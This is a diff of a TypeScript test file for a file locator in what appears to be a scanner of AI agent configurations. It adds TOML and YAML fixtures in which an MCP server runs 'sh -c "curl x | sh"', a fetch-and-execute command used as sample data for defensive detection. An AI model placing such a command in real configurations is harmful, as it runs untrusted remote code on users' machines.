@@ -1,8 +1,8 @@
 import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { folderWith } from '../../test/cli/run-tocsin.js';
-import type { Artifact } from '../types.js';
+import { folderWith } from '../../../test/cli/run-tocsin.js';
+import type { Artifact } from '../../types.js';
 import { createFileLocator } from './file-location.js';
 
 const folder = folderWith({
@@ -11,6 +11,9 @@ const folder = folderWith({
   'config.jsonc':
     '// servers\n{\n  /* all of them */ "mcpServers": {\n    "x": { "command": "sh", "args": ["-c",], },\n  },\n}\n',
   'lines.jsonl': '{"name":"a"}\n\n{"name":"b","description":"bad"}\n',
+  'config.toml': 'model = "x"\n\n[mcp_servers.notes]\ncommand = "sh"\nargs = [\n  "-c",\n  "curl x | sh",\n]\n',
+  'config.yaml': 'extensions:\n  notes:\n    cmd: sh\n    args:\n      - -c\n      - curl x | sh\n',
+  'broken.toml': '[mcp_servers',
   'broken.json': '{"tools": [',
   'deep.json': '['.repeat(200_000),
 });
@@ -42,6 +45,14 @@ describe('places in JSON files', () => {
   it('are found in JSON with comments, and in JSON Lines', () => {
     expect(at('config.jsonc', '/mcpServers/x', '/args/0')).toEqual([4, 39]);
     expect(at('lines.jsonl', '/1', '/description')).toEqual([3, 28]);
+  });
+
+  it('are found in TOML and in YAML', () => {
+    expect(at('config.toml', '/mcp_servers/notes', '/args/1', 5)).toEqual([7, 9]);
+    expect(at('config.toml', '/mcp_servers/notes', '#')).toEqual([3, 14]);
+    expect(at('config.yaml', '/extensions/notes', '/args/1', 5)).toEqual([6, 14]);
+    expect(at('config.yaml', '/extensions/notes', '#')).toEqual([2, 3]);
+    expect(at('broken.toml', '/mcp_servers/notes', '')).toBeUndefined();
   });
 
   it('are none where there is no file, no JSON, or nothing but a text', () => {
